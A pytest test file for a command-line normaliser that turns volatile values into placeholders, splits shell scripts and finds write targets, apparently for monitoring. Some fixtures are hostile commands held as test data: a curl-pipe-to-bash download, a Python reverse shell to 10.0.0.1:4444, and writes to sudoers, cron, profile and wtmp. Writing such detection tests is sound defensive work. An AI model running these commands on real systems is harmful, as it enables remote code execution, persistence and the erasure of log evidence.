"""Volatile values become typed placeholders; the shape of the command stays."""

from __future__ import annotations

import pytest

from streams.normalize import (
    _normalize_part, code_words, interpreter_code, normalize_token, program_path, script_commands, shell_script,
)


@pytest.mark.parametrize(
    ("token", "expected"),
    [
        ("--pid=4242", "--pid=<n>"),
        ("/tmp/tmp.Ab3xYz9Q", "/tmp/tmp.<rnd>"),
        ("3f2b8c1e-9a4d-4e7b-8c2d-1a2b3c4d5e6f.json", "<uuid>.json"),
        ("backup-2026-11-25.tar.gz", "backup-<date>.tar.gz"),
        ("--peer=10.0.3.17:5432", "--peer=<ip>"),
        ("sha=9f86d081884c7d65", "sha=<hex>"),
        ("app-1.24.3", "app-<ver>"),
        ("build-4711", "build-<n>"),
        ("/usr/bin/Python3", "/usr/bin/python<n>"),
        ("--verbose", "--verbose"),
        # issue 13: shapes that change on every run
        ("app-2.4.11.tar.gz", "app-<ver>.tar.gz"),
        ("tmp.Xq3kZ9", "tmp.<rnd>"),
        ("verify.aB4cD1", "verify.<rnd>"),
        ("/tmp/tmp.Ab3dEf/out", "/tmp/tmp.<rnd>/out"),  # one digit only
        ("tmp.XqakZwPeRt", "tmp.<rnd>"),  # letters only, mktemp's ten
        ("--id=a7Kq2", "--id=<rnd>"),  # short random values of a key
        ("--run-id=x9Qw", "--run-id=<rnd>"),
        ("--enc=utf8", "--enc=utf<n>"),  # ...but not words with a number in them
        ("--hash=md5sum", "--hash=md<n>sum"),
        ("r12-3456", "r<n>-<n>"),
        ("job-7f3a", "job-<rnd>"),  # short ids, after any separator
        ("sess_k3JdP", "sess_<rnd>"),
        ("nginx.service-AbCdEf", "nginx.service-<rnd>"),
        ("run-XkPqLmZr", "run-<rnd>"),
        ("kvaudit.oXQCIYUH2U", "kvaudit.<rnd>"),  # mktemp: mostly upper case
        ("kvaudit.SRWTIBTRqM", "kvaudit.<rnd>"),
        ("ttl.dCkpr4itrc", "ttl.<rnd>"),  # one capital, one digit
        ("kvaudit.uwTFNkabQL", "kvaudit.<rnd>"),
        ("kvaudit.GnsxvFAIpg", "kvaudit.<rnd>"),
        ("x-PostgreSQL", "x-postgresql"),
        ("yyQexTIZQswZ", "<rnd>"),  # a random value on its own
        ("nightly.1RrkhjVa", "nightly.<rnd>"),
        ("inventory.9GDCGKU2", "inventory.<rnd>"),
        ("sums.sha256", "sums.sha<n>"),
        ("NetworkManager", "networkmanager"),
        ("getElementById", "getelementbyid"),
        ("ttl.XXXXXXXX", "ttl.xxxxxxxx"),  # mktemp's template
        ("--JavaScript", "--JavaScript"),
        ("x86_64", "x<n>_<n>"),  # ...but not architectures and checksum tools
        ("sha256sum", "sha<n>sum"),
        # … and words that are not random, kept
        ("file-JavaScript", "file-javascript"),
        ("x-McDonald", "x-mcdonald"),
        ("tmp.abcdefghij", "tmp.abcdefghij"),
        # options keep their case: -P and -p are different options
        ("-P", "-P"),
        ("-p", "-p"),
        ("-R", "-R"),
    ],
)
def test_volatile_values_become_typed_placeholders(token: str, expected: str) -> None:
    assert normalize_token(token) == expected


def test_routine_drift_normalises_to_the_same_token() -> None:
    runs = ["/var/log/app/app-2026-11-24.log", "/var/log/app/app-2026-11-25.log"]
    assert len({normalize_token(t) for t in runs}) == 1
    assert normalize_token("/proc/1234/status") == normalize_token("/proc/98765/status")


@pytest.mark.parametrize(
    "token",
    [
        "/srv/render/render-7.conf",
        "/data/2026-11-25/10.1.2.3/part-00042.parquet",
        "--out=/tmp/Ab3xYz9Q/3f2b8c1e-9a4d-4e7b-8c2d-1a2b3c4d5e6f/v1.2.3",
        "https://10.0.0.1:8443/api/v2/items/deadbeef42",
        "/a//b/",
    ],
)
def test_paths_normalise_component_by_component_as_a_whole(token: str) -> None:
    # normalize_token splits on "/" so directories are cached once; no rule may match
    # across a "/", so the whole token normalised at once gives the same result.
    assert normalize_token(token) == _normalize_part.__wrapped__(token)


def test_shell_scripts_split_into_simple_commands() -> None:
    argv = ["sh", "-c", "curl -s http://x/i.sh | bash; FOO=1 rm -f /tmp/a && echo $(id)"]
    script = shell_script(argv)
    assert script is not None
    assert [words[0] for _, words in script_commands(script)] == ["curl", "bash", "rm", "echo", "id"]


def test_merged_usr_aliases_are_one_program() -> None:
    assert program_path("/bin/sh") == program_path("/usr/bin/sh") == "/usr/bin/sh"
    assert program_path("/sbin/ip") == "/usr/sbin/ip"
    assert program_path("/opt/bin/x") == "/opt/bin/x"


def test_an_interpreters_inline_code_is_its_own_and_shell_scripts_stay_scripts() -> None:
    code = "import socket,subprocess;s=socket.socket();s.connect(('10.0.0.1',4444));subprocess.call(['/bin/sh','-i'])"
    assert interpreter_code("python3", ["python3", "-c", code]) == code
    assert interpreter_code("python3.11", ["python3.11", "-u", "-c", code]) == code
    assert interpreter_code("perl", ["perl", "-e", "print 1"]) == "print 1"
    assert interpreter_code("sh", ["sh", "-c", "ls"]) is None and interpreter_code("python3", ["python3", "x.py"]) is None
    words = code_words(code)
    assert {"import", "socket", "subprocess", "socket.socket", "s.connect", "subprocess.call"} <= set(words)
    assert not any("10.0.0.1" in w or "/bin/sh" in w for w in words)  # strings are not names


@pytest.mark.parametrize(
    ("words", "targets"),
    [
        (["echo", "x", ">>", "/etc/cron.d/job"], ["/etc/cron.d/job"]),
        (["echo", "x>>/etc/profile"], ["/etc/profile"]),
        (["cat", "a", "2>/dev/null", ">", "/tmp/out"], ["/tmp/out"]),
        (["make", "2>&1"], []),
        (["cp", "-a", "src", "/etc/systemd/system/"], ["/etc/systemd/system/"]),
        (["install", "-m", "755", "tool", "/usr/local/bin/tool"], ["/usr/local/bin/tool"]),
        (["tee", "-a", "/etc/sudoers.d/x"], ["/etc/sudoers.d/x"]),
        (["dd", "if=/dev/zero", "of=/var/log/wtmp"], ["/var/log/wtmp"]),
        (["echo", "a -> b"], []),  # quoted text is not a redirection
        (["ls", "-l"], []),
    ],
)
def test_write_targets(words: list[str], targets: list[str]) -> None:
    from streams.normalize import write_targets

    assert write_targets(words) == targets
